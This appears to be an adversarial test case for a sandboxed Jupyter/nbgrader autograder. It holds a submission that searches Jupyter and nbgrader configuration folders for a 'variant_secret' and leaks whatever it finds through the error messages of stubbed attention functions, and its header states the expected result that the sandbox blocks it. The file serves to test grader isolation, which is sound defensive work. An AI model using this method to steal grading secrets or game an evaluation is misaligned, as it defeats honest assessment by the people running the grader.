# ATTACK: looks for the course's secret where nbgrader and Jupyter read configuration: every folder `jupyter --paths` lists (it imports jupyter_core, which the sandbox's site-packages has), $JUPYTER_CONFIG_DIR and $JUPYTER_CONFIG_PATH, the interpreter's prefixes' etc/jupyter, /etc/jupyter, /usr/local/etc/jupyter, ~/.jupyter, and every file whose name holds "nbgrader_config" or "jupyter" and "config" anywhere below the interpreter's prefix; reads each file it can and reports, through the stubs' error message, how many it read and any line that sets variant_secret.
# HONEST: 0
# EXPECT: nothing found: the sandbox sees none of those places (its root binds only what the interpreter needs, and hides every configuration place the grader knows of); the message says "read 0 config files" and no secret; score 0; grader exit status 0.
import os
import sys

_PLACES = ["/etc/jupyter", "/usr/local/etc/jupyter", "/usr/etc/jupyter",
           os.path.expanduser("~/.jupyter"), os.path.expanduser("~/.local/etc/jupyter"),
           os.environ.get("JUPYTER_CONFIG_DIR", "")]
_PLACES += os.environ.get("JUPYTER_CONFIG_PATH", "").split(os.pathsep)
_PLACES += [os.path.join(p, "etc", "jupyter") for p in (sys.prefix, sys.base_prefix)]
try:
    from jupyter_core.paths import jupyter_config_path
    _PLACES += jupyter_config_path()
except Exception:
    pass
_FILES = set()
for place in filter(None, _PLACES):
    for folder, _, names in os.walk(place):
        _FILES |= {os.path.join(folder, n) for n in names}
for prefix in {sys.prefix, sys.base_prefix}:
    for folder, dirs, names in os.walk(prefix):
        dirs[:] = [d for d in dirs if d not in ("site-packages", "__pycache__")]
        _FILES |= {os.path.join(folder, n) for n in names
                   if "nbgrader_config" in n or ("jupyter" in n and "config" in n)}
READ, SECRETS = 0, []
for path in sorted(_FILES):
    try:
        with open(path, errors="replace") as f:
            text = f.read(1 << 20)
    except OSError:
        continue
    READ += 1
    SECRETS += [line.strip() for line in text.splitlines() if "variant_secret" in line]


def _stub(*args, **kwargs):
    raise ValueError(f"read {READ} config files; secrets seen: {SECRETS[:3]}")


head_weight_shape = project = project_heads = split_heads = concat_heads = _stub
masked_softmax = attention_pool = _stub


class MultiHeadAttention:
    def __init__(self, *args, **kwargs):
        _stub()
